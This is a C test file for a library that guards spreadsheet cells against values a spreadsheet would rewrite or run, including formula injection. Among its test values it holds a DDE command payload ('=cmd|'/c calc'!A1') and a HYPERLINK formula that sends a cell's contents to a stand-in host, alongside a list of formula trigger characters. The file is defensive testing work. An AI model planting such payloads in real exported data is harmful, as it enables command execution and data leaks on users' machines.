#include "provspool/guard.h"

#include "model_case.h"
#include "provspool/text.h"

#define SEED UINT64_C(118)
#define STRINGS 150000

#define BYTES(literal)                                                         \
	{                                                                      \
		(literal), sizeof(literal) - 1                                 \
	}

static const char *
guarded(struct ps_buf *out, struct ps_span value)
{
	ps_buf_reset(out);
	ps_guard(out, value);
	return out->ptr;
}

static const char *
unguarded(struct ps_buf *out, struct ps_span cell)
{
	ps_buf_reset(out);
	ps_unguard(out, cell);
	return out->ptr;
}

/* What at least one spreadsheet makes something else of, as measured. */
static const struct ps_span rewritten[] = {
	BYTES("000123"),
	BYTES("123456789012"),
	BYTES("123456789012345"),
	BYTES("1234567890123456"),
	BYTES("123456789012345678"),
	BYTES("9007199254740993"),
	BYTES("12E5"),
	BYTES("123E400"),
	BYTES("06E2"),
	BYTES("1234e567"),
	BYTES("0.1234567890123456789"),
	BYTES("1.50"),
	BYTES("1,234"),
	BYTES("1 234"),
	BYTES("1.234.567"),
	BYTES("10%"),
	BYTES("$100"),
	BYTES("100 \xe2\x82\xac"),
	BYTES("(5)"),
	BYTES("+33612345678"),
	BYTES("0612345678"),
	BYTES("2026-11-22"),
	BYTES("2026-11-22 09:30"),
	BYTES("2026-11-22T09:30:00Z"),
	BYTES("22/11/2026"),
	BYTES("11/22/2026"),
	BYTES("03/04/2026"),
	BYTES("22.11.2026"),
	BYTES("09:30"),
	BYTES("25:10"),
	BYTES("00:11:22"),
	BYTES("MARCH1"),
	BYTES("SEPT2"),
	BYTES("DEC1"),
	BYTES("MAR-01"),
	BYTES("MAR-12"),
	BYTES("DEC-12"),
	BYTES("June 2026"),
	BYTES("1-2"),
	BYTES("3/4"),
	BYTES("1/2"),
	BYTES("1 1/2"),
	BYTES("1.2.3"),
	BYTES("true"),
	BYTES("=1+1"),
	BYTES("=\"000123\""),
	BYTES("=cmd|'/c calc'!A1"),
	BYTES("=HYPERLINK(\"http://x.test/?\"&A1,\"ok\")"),
	BYTES("+1+1"),
	BYTES("+done"),
	BYTES("-1-1"),
	BYTES("@jdoe"),
	BYTES("'000123"),
	BYTES("'=1+1"),
	BYTES("line1\r\nline2"),
	BYTES("1:2"),
};

static void
what_a_spreadsheet_rewrites_is_guarded(void)
{
	struct ps_buf cell = PS_BUF_INIT;
	struct ps_buf back = PS_BUF_INIT;

	for (size_t i = 0; i < PS_ARRAY_LEN(rewritten); i++) {
		const char *text = guarded(&cell, rewritten[i]);

		unguarded(&back, ps_buf_span(&cell));
		if (!TAP_CHECK(text[0] == '[' && text[cell.len - 1] == ']') ||
		    !TAP_CHECK(ps_span_eq(ps_buf_span(&back), rewritten[i])))
			TAP_NOTE("row %zu: %s", i, text);
	}
	ps_buf_release(&cell);
	ps_buf_release(&back);
}

struct form_row {
	struct ps_span value;
	const char *cell;
};

/* Value and cell; NULL: it is inert and stands as it is. */
static const struct form_row forms[] = {
	{ BYTES(""), "" },
	/* names, words and keys as they are */
	{ BYTES("O'Brien"), NULL },
	{ BYTES("Rossi Ada"), NULL },
	{ BYTES("say \"hi\""), NULL },
	{ BYTES("a,b"), NULL },
	{ BYTES("a;b"), NULL },
	{ BYTES("C:\\temp\\new"), NULL },
	{ BYTES("CN=Doe\\, John,OU=Staff,DC=ex,DC=org"), NULL },
	{ BYTES("\xc3\x89lo\xc3\xafse M\xc3\xbcller"), NULL },
	{ BYTES("E\xcc\x81lo\xc3\xafse"), NULL },
	{ BYTES("\xce\x91\xce\xb8\xce\xae\xce\xbd\xce\xb1"), NULL },
	{ BYTES("\xd0\x98\xd0\xb2\xd0\xb0\xd0\xbd"), NULL },
	{ BYTES("\xd7\x9b\xd7\x94\xd7\x9f"), NULL },
	{ BYTES("\xe5\xb1\xb1\xe7\x94\xb0\xe5\xa4\xaa\xe9\x83\x8e"), NULL },
	{ BYTES("\xea\xb9\x80"), NULL },
	{ BYTES("id:000123"), NULL },
	{ BYTES("k3f9e2d1"), NULL },
	{ BYTES("Z-BLUE"), NULL },
	{ BYTES("B-9"), NULL },
	{ BYTES("E1042"), NULL },
	{ BYTES("ab12"), NULL },
	{ BYTES("trueish"), NULL },
	{ BYTES("a\\u"), NULL },
	{ BYTES("a\xc2\xa0 b"), NULL },
	/* words of spreadsheets, in any case */
	{ BYTES("TRUE"), "[TRUE]" },
	{ BYTES("False"), "[False]" },
	{ BYTES("VRAI"), "[VRAI]" },
	{ BYTES("Wahr"), "[Wahr]" },
	{ BYTES("falso"), "[falso]" },
	{ BYTES("VERO"), "[VERO]" },
	{ BYTES("NULL"), "[NULL]" },
	{ BYTES("nan"), "[nan]" },
	{ BYTES("Inf"), "[Inf]" },
	{ BYTES("N/A"), "[N/A]" },
	{ BYTES("#N/A"), "[#N/A]" },
	/* months and their like */
	{ BYTES("abc1"), "[abc1]" },
	{ BYTES("SEP.2"), "[SEP.2]" },
	{ BYTES("Oct/3"), "[Oct/3]" },
	{ BYTES("d\xc3\xa9"
		"c-3"),
	  "[d\xc3\xa9"
	  "c-3]" },
	{ BYTES("de\xcc\x81"
		"c3"),
	  "[de\xcc\x81"
	  "c3]" },
	{ BYTES("Oct--3"), NULL },
	{ BYTES("MARCH"), NULL },
	{ BYTES("MARCH "), "[MARCH ]" },
	/* blanks at an end, hidden characters anywhere */
	{ BYTES(" "), "[ ]" },
	{ BYTES(" lead"), "[ lead]" },
	{ BYTES("trail  "), "[trail  ]" },
	{ BYTES("done\xc2\xa0"), "[done\xc2\xa0]" },
	{ BYTES("\xe2\x80\x8b"
		"000123"),
	  "[\\u{200B}000123]" },
	{ BYTES("\t=1+1"), "[\\u{9}=1+1]" },
	{ BYTES("\n=1+1"), "[\\u{A}=1+1]" },
	{ BYTES("\r=1+1"), "[\\u{D}=1+1]" },
	{ BYTES("a\0b"), "[a\\u{0}b]" },
	{ BYTES("a\nb"), "[a\\u{A}b]" },
	{ BYTES("a\xe2\x80\xae"
		"b"),
	  "[a\\u{202E}b]" },
	{ BYTES("a\xf4\x8f\xbf\xbf"), "[a\\u{10FFFF}]" },
	{ BYTES("a\xf3\xa0\x80\x81"), "[a\\u{E0001}]" },
	/* begins with no letter */
	{ BYTES("-"), "[-]" },
	{ BYTES("\xd9\xa1\xd9\xa2"), "[\xd9\xa1\xd9\xa2]" },
	{ BYTES("\xef\xbf\xa5"
		"100"),
	  "[\xef\xbf\xa5"
	  "100]" },
	{ BYTES("\xf0\x9f\x91\xa9 ok"), "[\xf0\x9f\x91\xa9 ok]" },
	{ BYTES("\xe2\x88\x92"
		"1"),
	  "[\xe2\x88\x92"
	  "1]" },
	{ BYTES("\xef\xbc\x9d"
		"1+1"),
	  "[\xef\xbc\x9d"
	  "1+1]" },
	{ BYTES("\xef\xb9\xa6"
		"1+1"),
	  "[\xef\xb9\xa6"
	  "1+1]" },
	{ BYTES("a\xef\xbc\x9d"
		"1"),
	  "[a\xef\xbc\x9d"
	  "1]" },
	{ BYTES("\xef\xbc\xb4\xef\xbc\xb2"), "[\xef\xbc\xb4\xef\xbc\xb2]" },
	/* brackets and escapes of its own */
	{ BYTES("["), "[[]" },
	{ BYTES("[]"), "[[]]" },
	{ BYTES("[a]"), "[[a]]" },
	{ BYTES("a]"), NULL },
	{ BYTES("\\u{200F}"), "[\\u{5C}u{200F}]" },
	{ BYTES("a\\u{"), "[a\\u{5C}u{]" },
	{ BYTES("\\\\u{5C}"), "[\\\\u{5C}u{5C}]" },
};

static void
values_have_one_form(void)
{
	struct ps_buf cell = PS_BUF_INIT;
	struct ps_buf back = PS_BUF_INIT;

	for (size_t i = 0; i < PS_ARRAY_LEN(forms); i++) {
		const struct form_row *row = &forms[i];
		const char *want = row->cell ? row->cell : row->value.ptr;

		if (!TAP_EQ_STR(guarded(&cell, row->value), want))
			TAP_NOTE("row %zu", i);
		unguarded(&back, ps_buf_span(&cell));
		if (!TAP_CHECK(ps_span_eq(ps_buf_span(&back), row->value)))
			TAP_NOTE("row %zu: %s", i, want);
	}
	ps_buf_release(&cell);
	ps_buf_release(&back);
}

/* Cells that no guard writes are the value themselves. */
static void
brackets_of_a_person_stay(void)
{
	static const char *const cells[] = {
		"[]",
		"[",
		"]",
		"[a]",
		"[see ticket]",
		"[000123",
		"000123]",
		" [000123]",
		"[000123] ",
		"[\\u{9]",
		"[\\u{}]",
		"[\\u{0009}]",
		"[\\u{a}]",
		"[\\u{41}]",
		"[\\u{D800}]",
		"[\\u{110000}]",
		"[\\u{FFFFFFFF9}]",
		"[\\u{5C}u]",
		"[1]\n[2]",
	};
	struct ps_buf back = PS_BUF_INIT;

	for (size_t i = 0; i < PS_ARRAY_LEN(cells); i++)
		if (!TAP_EQ_STR(unguarded(&back, ps_span_str(cells[i])),
				cells[i]))
			TAP_NOTE("row %zu", i);
	ps_buf_release(&back);
}

/* A cell is UTF-8 whatever it was made from, or nobody reads its file. */
static void
broken_text_is_shown_as_such(void)
{
	static const struct form_row rows[] = {
		{ BYTES("caf\xc3"), "[caf\xef\xbf\xbd]" },
		{ BYTES("'\xe2\x82' x (E-DATE)"),
		  "['\xef\xbf\xbd\xef\xbf\xbd' x (E-DATE)]" },
		{ BYTES("\xff"), "[\xef\xbf\xbd]" },
	};
	struct ps_buf cell = PS_BUF_INIT;

	for (size_t i = 0; i < PS_ARRAY_LEN(rows); i++)
		TAP_EQ_STR(guarded(&cell, rows[i].value), rows[i].cell);
	ps_buf_release(&cell);
}

static void
add_code_point(struct ps_buf *out, uint32_t cp)
{
	char bytes[4];
	size_t n = cp < 0x80 ? 1 : cp < 0x800 ? 2 : cp < 0x10000 ? 3 : 4;
	static const unsigned char leads[] = { 0, 0, 0xc0, 0xe0, 0xf0 };

	for (size_t i = n; i-- > 1; cp >>= 6)
		bytes[i] = (char)(0x80 | (cp & 0x3f));
	bytes[0] = (char)(leads[n] | cp);
	ps_buf_add(out, bytes, n);
}

/* Any code point but surrogates, those at the edges more often. */
static uint32_t
any_code_point(struct model_random *r)
{
	static const uint32_t tops[] = { 0x20,	 0x80,	  0x800,
					 0x3100, 0x10000, 0x110000 };
	uint32_t cp;

	if (model_below(r, 40) == 0)
		return 0x10ffff - (uint32_t)model_below(r, 3);
	cp = (uint32_t)model_below(r, tops[model_below(r, 6)]);
	return cp >= 0xd800 && cp < 0xe000 ? 'a' : cp;
}

static void
any_text(struct model_random *r, struct ps_buf *out)
{
	static const char *const pieces[] = {
		"[",
		"]",
		"\\",
		"\\u{",
		"}",
		"5C",
		"u{",
		"=",
		"+",
		"-",
		"@",
		"\t",
		"\r",
		"\n",
		" ",
		"1",
		"00",
		"MAR",
		"true",
		"nan",
		"\xc2\xa0",
		"\xef\xbc\x9d",
		"\xe2\x80\x8f",
		"E",
	};
	size_t n = model_below(r, 9);

	ps_buf_reset(out);
	for (size_t i = 0; i < n; i++)
		if (model_below(r, 2) == 0)
			add_code_point(out, any_code_point(r));
		else
			ps_buf_addstr(
				out,
				pieces[model_below(r, PS_ARRAY_LEN(pieces))]);
}

static bool
begins_harmfully(struct ps_span s)
{
	static const uint32_t triggers[] = {
		'=',	'+',	'-',	'@',	'\t',	'\r',	'\n',	0xff1d,
		0xff0b, 0xff0d, 0xff20, 0xfe66, 0xfe62, 0xfe63, 0xfe6b, 0x2212,
	};
	uint32_t cp;

	if (ps_utf8_next(s, 0, &cp) == 0)
		return false;
	for (size_t i = 0; i < PS_ARRAY_LEN(triggers); i++)
		if (cp == triggers[i])
			return true;
	return false;
}

static bool
shows_hidden(struct ps_span s)
{
	size_t at = 0;
	uint32_t cp;
	size_t n;

	while ((n = ps_utf8_next(s, at, &cp)) > 0) {
		if (ps_text_is_hidden(cp))
			return true;
		at += n;
	}
	return at != s.len; /* or is no UTF-8 any more */
}

struct tally {
	int lost;
	int harmful;
	int hidden;
	int bare;
};

static void
try_value(struct ps_span value, struct ps_buf *cell, struct ps_buf *back,
	  struct tally *tally)
{
	guarded(cell, value);
	unguarded(back, ps_buf_span(cell));
	if (!ps_span_eq(ps_buf_span(back), value)) {
		TAP_NOTE("lost: %s", cell->ptr);
		tally->lost++;
	}
	tally->harmful += begins_harmfully(ps_buf_span(cell));
	tally->hidden += shows_hidden(ps_buf_span(cell));
	tally->bare += ps_span_eq(ps_buf_span(cell), value);
}

static void
any_text_comes_back_from_a_harmless_cell(void)
{
	struct model_random r = { SEED };
	struct ps_buf value = PS_BUF_INIT;
	struct ps_buf cell = PS_BUF_INIT;
	struct ps_buf back = PS_BUF_INIT;
	struct tally tally = { 0 };

	for (int i = 0; i < STRINGS; i++) {
		any_text(&r, &value);
		try_value(ps_buf_span(&value), &cell, &back, &tally);
	}
	TAP_EQ_INT(tally.lost, 0);
	TAP_EQ_INT(tally.harmful, 0);
	TAP_EQ_INT(tally.hidden, 0);
	/* the generator makes both kinds */
	TAP_CHECK(tally.bare > STRINGS / 20);
	TAP_CHECK(tally.bare < STRINGS / 2);
	ps_buf_release(&value);
	ps_buf_release(&cell);
	ps_buf_release(&back);
}

static void
every_code_point_comes_back(void)
{
	struct ps_buf value = PS_BUF_INIT;
	struct ps_buf cell = PS_BUF_INIT;
	struct ps_buf back = PS_BUF_INIT;
	struct tally tally = { 0 };

	for (uint32_t cp = 0; cp <= 0x10ffff; cp++) {
		if (cp >= 0xd800 && cp < 0xe000)
			continue;
		ps_buf_reset(&value);
		add_code_point(&value, cp);
		try_value(ps_buf_span(&value), &cell, &back, &tally);
	}
	TAP_EQ_INT(tally.lost, 0);
	TAP_EQ_INT(tally.harmful, 0);
	TAP_EQ_INT(tally.hidden, 0);
	ps_buf_release(&value);
	ps_buf_release(&cell);
	ps_buf_release(&back);
}

/* Whatever stands in a cell is itself or what a guard wrote. */
static void
any_cell_reads_as_itself_or_as_a_guard(void)
{
	struct model_random r = { SEED + 1 };
	struct ps_buf cell = PS_BUF_INIT;
	struct ps_buf value = PS_BUF_INIT;
	struct ps_buf again = PS_BUF_INIT;
	int wrong = 0;
	int opened = 0;

	for (int i = 0; i < STRINGS; i++) {
		any_text(&r, &again);
		ps_buf_reset(&cell);
		ps_buf_addch(&cell, '[');
		ps_buf_addspan(&cell, ps_buf_span(&again));
		ps_buf_addch(&cell, ']');
		unguarded(&value, ps_buf_span(&cell));
		if (ps_span_eq(ps_buf_span(&value), ps_buf_span(&cell)))
			continue;
		opened++;
		guarded(&again, ps_buf_span(&value));
		wrong += !ps_span_eq(ps_buf_span(&again), ps_buf_span(&cell));
	}
	TAP_EQ_INT(wrong, 0);
	TAP_CHECK(opened > STRINGS / 20);
	ps_buf_release(&cell);
	ps_buf_release(&value);
	ps_buf_release(&again);
}

int
main(void)
{
	printf("# seed %llu\n", (unsigned long long)SEED);
	TAP_RUN(what_a_spreadsheet_rewrites_is_guarded);
	TAP_RUN(values_have_one_form);
	TAP_RUN(brackets_of_a_person_stay);
	TAP_RUN(broken_text_is_shown_as_such);
	TAP_RUN(any_text_comes_back_from_a_harmless_cell);
	TAP_RUN(every_code_point_comes_back);
	TAP_RUN(any_cell_reads_as_itself_or_as_a_guard);
	return tap_done();
}
